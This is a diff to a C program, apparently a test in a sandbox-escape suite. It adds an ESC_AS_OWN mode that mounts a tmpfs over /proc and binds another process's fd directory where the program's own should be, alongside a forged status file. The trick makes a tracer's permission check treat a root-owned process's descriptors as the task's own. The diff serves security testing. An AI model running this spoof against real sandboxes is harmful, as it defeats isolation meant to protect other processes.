@@ -17,7 +17,12 @@
  * for a process gone, whose link the kernel's open refuses; the tracer's open does not.
  * With ESC_OVERMOUNT set the forged status is bound over /proc/PID/status itself (a file of
  * /proc is a mountpoint like any other in the task's own mount namespace) and the program
- * opens /proc/PID/cwd/NAME: the process directory's own "status" is then the forgery. */
+ * opens /proc/PID/cwd/NAME: the process directory's own "status" is then the forgery.
+ * With ESC_AS_OWN set (review 53's spoof, one step on) the program mounts a tmpfs over /proc
+ * (its /proc moved to WORK/proc first) and binds PID's fd directory at /proc/<its own pid>/fd,
+ * the forged status beside it: the walk searches that directory as the task's own
+ * (_own_fd_directory, by name: proc_fd_permission) whatever its mode -- a holder that is not
+ * dumpable, root's, whose fd directory the task may not search natively. */
 #include "attack.h"
 #include <sched.h>
 #include <sys/mount.h>
@@ -35,9 +40,24 @@ int main(int argc, char **argv) {
     snprintf(base, sizeof base, "%s/b%d", argv[5], (int)getpid());
     snprintf(fds, sizeof fds, "%s/fd", base);
     snprintf(theirs, sizeof theirs, "/proc/%s/fd", argv[1]);
-    if (mkdir(base, 0755) || mkdir(fds, 0755)) skipped("mkdir %s: %s", fds, ename(errno));
     if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL)) skipped("private: %s", ename(errno));
-    if (!getenv("ESC_OVERMOUNT") && mount(theirs, fds, NULL, MS_BIND, NULL))
+    if (getenv("ESC_AS_OWN")) {
+        char real[600];
+        snprintf(real, sizeof real, "%s/proc", base);
+        if (mkdir(base, 0755) || mkdir(real, 0755)) skipped("mkdir %s: %s", real, ename(errno));
+        if (mount("/proc", real, NULL, MS_BIND | MS_REC, NULL)) skipped("bind: %s", ename(errno));
+        if (mount("spoof", "/proc", "tmpfs", 0, NULL)) skipped("tmpfs: %s", ename(errno));
+        snprintf(base, sizeof base, "/proc/%d", (int)getpid());
+        snprintf(fds, sizeof fds, "%s/fd", base);
+        char src[700];
+        snprintf(src, sizeof src, "%s/%s/fd", real, argv[1]);
+        if (mkdir(base, 0755) || mkdir(fds, 0755)) skipped("mkdir %s: %s", fds, ename(errno));
+        if (mount(src, fds, NULL, MS_BIND, NULL)) skipped("bind %s: %s", src, ename(errno));
+    } else if (mkdir(base, 0755) || mkdir(fds, 0755)) {
+        skipped("mkdir %s: %s", fds, ename(errno));
+    }
+    if (!getenv("ESC_OVERMOUNT") && !getenv("ESC_AS_OWN")
+            && mount(theirs, fds, NULL, MS_BIND, NULL))
         skipped("bind %s: %s", theirs, ename(errno));
     if (!getenv("ESC_NO_STATUS")) {
         snprintf(status, sizeof status, "%s/status", base);
